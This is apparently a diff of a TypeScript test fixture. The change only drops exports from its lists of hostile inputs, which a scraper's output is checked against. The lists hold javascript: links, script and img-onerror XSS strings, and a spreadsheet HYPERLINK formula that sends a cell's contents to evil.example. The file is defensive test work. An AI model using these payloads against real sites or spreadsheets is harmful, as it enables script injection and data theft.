@@ -14,7 +14,7 @@ import { join } from 'node:path';
 export const hostileWord = '危険';
 
 /** Links the site prints; none of them may come out of any output. */
-export function hostileLinks(port: number): string[] {
+function hostileLinks(port: number): string[] {
   return [
     'javascript:window.__pwned=1',
     ' JaVaScRiPt:window.__pwned=1',
@@ -28,7 +28,7 @@ export function hostileLinks(port: number): string[] {
 }
 
 /** Titles the site prints: markup, control characters, formula cells and one of 100 KB. */
-export const hostileTitles: readonly string[] = [
+const hostileTitles: readonly string[] = [
   `<script>window.__pwned=1</script>${hostileWord}スクリプト`,
   `<img src=x onerror="window.__pwned=1">${hostileWord}画像`,
   `=HYPERLINK("http://evil.example/?leak="&A1,"${hostileWord}")`,
@@ -45,7 +45,7 @@ export const hostileTitles: readonly string[] = [
 ];
 
 /** The enormous title's run: no output may carry 1,001 of these in a row. */
-export const enormousRun = 'あ'.repeat(1001);
+const enormousRun = 'あ'.repeat(1001);
 
 /** What a finding looks like: the output, the rule, and a short excerpt. */
 export interface Finding {
